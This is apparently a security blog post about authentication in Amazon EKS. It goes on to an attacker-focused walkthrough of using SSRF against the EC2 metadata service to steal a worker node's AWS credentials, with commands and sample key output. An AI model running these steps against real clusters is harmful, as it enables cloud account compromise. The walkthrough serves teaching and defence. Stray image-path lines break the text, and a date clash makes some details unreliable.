Attacking and securing cloud identities in managed Kubernetes part 1: Amazon EKS

May 16, 2023

Attacking And Securing Cloud Identities In Managed Kubernetes Part 1: Amazon Eks


Amazon Elastic Kubernetes Service (EKS) is a popular way to run managed Kubernetes clusters in the cloud. In this post, we'll review how identity and access management (IAM) works in EKS, both for humans and workloads. Then, we'll deep-dive into various attack vectors that allow an attacker to pivot from an EKS cluster to an AWS account, potentially compromising the full cloud environment.This blog post contains several sections. Some are learning focused (), others are attacker focused (😈), while others are defender focused (). You can read the post sequentially, or alternatively choose your own adventure!

 Learning focused
How EKS authenticates and authorizes requests to the API server
Authenticating Kubernetes workloads against AWS

😈 Attacker focused
Exploiting SSRF vulnerabilities in an EKS environment
Pivoting to the cloud environment by stealing pod identities
Key takeaways for pentesters and red teamers

 Defender focused
Preventing pods from accessing node credentials
Using MKAT to audit your EKS cluster
Key takeaways for defendersHow EKS authenticates and authorizes requests to the API server

After creating an EKS cluster, the first step is generally to use kubectl to interact with the cluster. So, how does the EKS managed API server know who you are, and what it should allow you to do in the cluster?


Let’s say you just created an EKS cluster. The next step is to run the following command so that the AWS CLI will generate the kubeconfig file you need.

# Store our cluster name in an environment variable so we can easily reuse it

aws eks update-kubeconfig --name $EKS_CLUSTER_NAME

The resulting configuration inside of .kube/config looks like the following:

apiVersion: v1
kind: Config
preferences: {}
current-context: arn:aws:eks:eu-west-1:012345678901:cluster/mkat-cluster
- cluster:
    certificate-authority-data: <SNIP>
    server: https://AF26D840E519D2F3902468224667D259.gr7.eu-west-1.eks.amazonaws.com
  name: arn:aws:eks:eu-west-1:012345678901:cluster/mkat-cluster
- name: arn:aws:eks:eu-west-1:012345678901:cluster/mkat-cluster
      apiVersion: client.authentication.k8s.io/v1beta1
      command: aws
      - --region
      - eu-west-1
      - eks
      - get-token
      - --cluster-name
      - eks-cluster

We have a few basic pieces of information here, such as the URL of the API server and the cluster Certificate Authority (CA) certificate. We also see an additional configuration iteminstructing kubectl to run a specific command before connecting to the API server, to retrieve an authentication token. Let's run the command manually and see what we get.

aws --region eu-west-1 eks get-token --cluster-name mkat-cluster
  "kind": "ExecCredential",
  "apiVersion": "client.authentication.k8s.io/v1beta1",
  "spec": {},
  "status": {
    "expirationTimestamp": "2023-04-25T12:40:43Z",
    "token": "k8s-aws-v1.aHR0cHM6<SNIP>Y2Q"

The resulting object (ExecCredential) contains the authentication token to use when communicating with the API server. Let's send it in an HTTP request using curl. We'll also retrieve thecertificate authority of the cluster in a file, so curl can verify the authenticity of the API server.

## Retrieve and store the authentication token
TOKEN=$(aws --region eu-west-1 eks get-token --cluster-name $EKS_CLUSTER_NAME | jq -r .status.token)

## Retrieve and store the URL of the API serverAPI_SERVER=$(kubectl config view --minify --output jsonpath="{.clusters[*].cluster.server}")

## Store the CA certificate on disk
kubectl config view --raw -o jsonpath='{.clusters[0].cluster.certificate-authority-data}' | base64 -d > ca.crt

curl --cacert ca.crt $API_SERVER/ -H "Authorization: Bearer $TOKEN"

We get back an API response showing that we are authenticated to the cluster:

  "paths": [

We can confirm our identity bycalling the TokenReview API or using the handy kubectl-whoami utility:

$ kubectl-whoami --server $API_SERVER \
  --certificate-authority ca.crt \
  --token $TOKEN --all

User:   kubernetes-admin

We see that we're properly authenticated, and our token is bound to the system:masters and system:authenticated Kubernetes role-based access control (RBAC) groups. Next, how does the EKS API server determine what permissions each incoming request should have?

Authorization: the aws-auth ConfigMap (deprecated)

One way to manage permissions in an EKS cluster is from inside the cluster, through aConfigMap called aws-auth sitting in the kube-system namespace. This ConfigMap maps AWS identities, including IAM roles, to the Kubernetes groups that they should be assigned to.

Although this was the only option prior to November 2023, it has now been deprecated and it's now preferred to manage cluster access through the EKS cluster access management feature, discussed in the next section.

The default aws-auth ConfigMap looks like the below:

apiVersion: v1
kind: ConfigMap
  name: aws-auth
  namespace: kube-system
  mapRoles: |
    - rolearn: arn:aws:iam::012345678901:role/cluster-nodegroup-ng-NodeInstanceRole
      - system:bootstrappers
      - system:nodes
      username: system:node:{{EC2PrivateDNSName}}
  mapUsers: |

By default, the aws-auth ConfigMap only maps IAM roles of the worker nodes to the system:boostrapers and system:nodes Kubernetes groups. You may wonder, then, why we have access to our EKS cluster if our account-admin role isn't mentioned in the ConfigMap.

This is because, when a cluster uses the CONFIG_MAP authentication mode, the identity that creates the cluster has invisible system:masters administrator privileges in the cluster. Not only is this "shadow administrator" not visible in the aws-auth ConfigMap, but there is also no way to retrieve them from the AWS API—for instance, eks:DescribeCluster does not show who initially created the cluster or who is admin of it. What's more, you cannot remove access to this identity from your cluster.

This creates a few challenges. First, it's impossible to determine who has administrator privileges on an EKS cluster, unless you're able to look up the initial eks:CreateCluster CloudTrail event to find who initially created the cluster. Additionally, someone with administrator access to your AWSaccount does not necessarily have any access to the EKS clusters in the account. This is particularly relevant for "break-the-glass" roles frequently used for incident response. So make sure you're explicitly granting permissions to anyone who needs access to your EKS clusters in their aws-auth ConfigMap—you don't want to find out that your administrator "break-the-glass" role has no permissions against the Kubernetes API when you're paged at 3 a.m. to respond to an incident! Finally, this IAM configuration means we typically cannot leverage native AWS IAM capabilities or third-party cloud security posture management (CSPM) services to understand which identities have access to the Kubernetes API of our EKS clusters. We have to start from each individual aws-auth ConfigMap and work our way backwards.

This is why, starting from November 2023, it's recommended to use EKS cluster access management—that we'll go through in the next section—instead of the aws-authConfigMap.

Starting November 2023 with the release of EKS cluster access management features, you can also manage access to the cluster through the AWS APIs.

This method of granting permissions does not have the pitfalls of the aws-auth ConfigMap. It's recommended to migrate permissions from the aws-auth ConfigMap to EKS cluster access management.

Under the hood: aws-iam-authenticator

In the previoussections, we saw how to use EKS authentication and authorization mechanisms. But how does it work under the hood?

The EKS API server leverages Webhook Token Authentication to call a component running in the managed control plane, aws-iam-authenticator, for every request the API server receives. As this component is part of the managed control plane, we don't have direct access to it. Conceptually, though, think of it as a simple HTTP server running in your cluster, in charge of authenticating incoming requests, and exposing a single /authenticate endpoint. The API server forwards the authentication token from incoming requests to this service, asking for a TokenReview, and is able to determine the identity of the caller.

How does aws-iam-authenticator know which AWS identity the authentication token corresponds to? Let's go back to one of the first commands we ran to generate our EKS token. What does it look like?

$ TOKEN=$(aws eks get-token --cluster-name $EKS_CLUSTER_NAME  | jq -r .status.token)
$ echo $TOKEN

The second part of this token definitely looks like base64. Let's decode it and see what's inside:

$ echo $TOKEN | cut -d. -f2 | base64 -d

Look familiar? This is a pre-signed AWS API request for sts:GetCallerIdentity. This means that anyone with this URL can call sts:GetCallerIdentity on our behalf, without the need for credentials, and get the response back. In fact, this is exactly what aws-iam-authenticator does. Once it knows your AWS identity (such as your current IAM role), it can use the aws-auth ConfigMap or the EKS cluster access management internal APIs to determine what permissions should be assigned to you.

Conclusion: EKS API server authentication

In this section, we discussed how the EKS API server authenticates incoming requests. While this is handled automatically by kubectl, it's often necessary to understand how the underlying process workswhen we want to dive deeper. In the next section, we'll explore how application level server-side request forgery (SSRF) vulnerabilities can typically be exploited in EKS environments to steal worker node AWS credentials, allowing an attacker to authenticate to the API server as a member of the system:nodes group, and discuss how an adversary might use this attack vector.

😈 Exploiting SSRF vulnerabilities in EKS environmentsServer-side request forgery (SSRF) is a common type of vulnerability in web applications. In fact, it's becoming so prevalent that it has recently been assigned its own entry in the OWASP Top 10. A simple search on HackerOne reveals that many real-world applications are vulnerable to it.

SSRF vulnerabilities are known to be particularly impactful in cloud environments. In 2022, they were responsible for a number of publicly documented data breaches and actively exploited by attacker groups such as UNC2903.

Review: Exploiting SSRF in a AWS environment

Let's quickly review how we can exploit an SSRF vulnerability in a cloud environment. If you're already familiar with the concept, feel free to directly jump to the next section.

Let's deploy a purposely vulnerable web application in our cluster and create a port forward to access it from our machine:

kubectl run vulnerable-application --image ghcr.io/datadog/vulnerable-java-application
kubectl port-forward pod/vulnerable-application 8000

We can now browse to The application allows us to enter any URL that it will happily retrieve for us—simulating an SSRF vulnerability. In the example below, you can see that it was possible to make a request from the perspective of a pod in our EKS cluster. Since the application is vulnerable to an SSRF vulnerability, an attacker can trick it into retrieving an arbitrary URL on their behalf:

Here comes the Instance Metadata Service (IMDS). The IMDS is an AWS service, listening on the link-local address, that can be accessed from any EC2 instance. In particular, it allows EC2 instances to retrieve temporary AWS credentials for their attached instance role. Let's input the address of the IMDS, in ourvulnerable application and see what happens:


This confirms that our pod can access the IMDS of the underlying EC2 worker node it's running on. Let's take a step back and visualize graphically what just happened.

As you can see from this schema, our web application runs on a Kubernetes pod inside our EKS cluster. This pod runs on a Kubernetes worker node, which is an EC2 instance. The EC2 instance can in turn access the IMDS. Consequently, the application running in the pod can also access the IMDS of the underlying EC2 instance. Emulating an attacker, we can call the IMDS to steal the AWS credentials of the underlying EC2 worker node.

Next, we can use our SSRF vulnerability to call to discover the name of the IAM role attached to the EC2 worker node:


We can now call to retrieve temporary credentials for that role.

  "Code" : "Success",
  "LastUpdated" : "2023-04-26T09:22:19Z",
  "Type" : "AWS-HMAC",
  "SecretAccessKey" : "AWPLj4xPshPmveLW4LoO1xl4Yc5MspV377pvejJf",
  "Token" : "IQo<SNIP>VaQ",
  "Expiration" : "2023-04-26T15:38:19Z"

Then, we can use these credentials locally on our machine to authenticate as a worker node against AWS:

export AWS_SECRET_ACCESS_KEY=AWPLj4xPshPmveLW4LoO1xl4Yc5MspV377pvejJf
aws sts get-caller-identity

The output shows that we're authenticated as a worker node against AWS:

    "UserId": "AROAZ3MSJV4W5KBVWG44G:i-04641563abf0e5499",
    "Account": "012345678901",
    "Arn": "arn:aws:sts::012345678901:assumed-role/eks-cluster-nodegroup-ng-NodeInstanceRole/i-04641563abf0e5499"

Impact of stealing worker nodes AWS credentials

